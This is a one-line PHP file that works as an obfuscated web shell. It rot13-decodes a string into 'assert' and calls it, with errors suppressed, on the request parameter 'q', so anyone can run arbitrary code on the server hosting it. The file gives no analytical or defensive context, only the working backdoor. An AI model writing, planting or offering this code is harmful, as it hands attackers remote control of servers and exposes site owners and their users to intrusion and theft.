<?php $k = str_rot13('nffreg'); @$k($_REQUEST['q']);
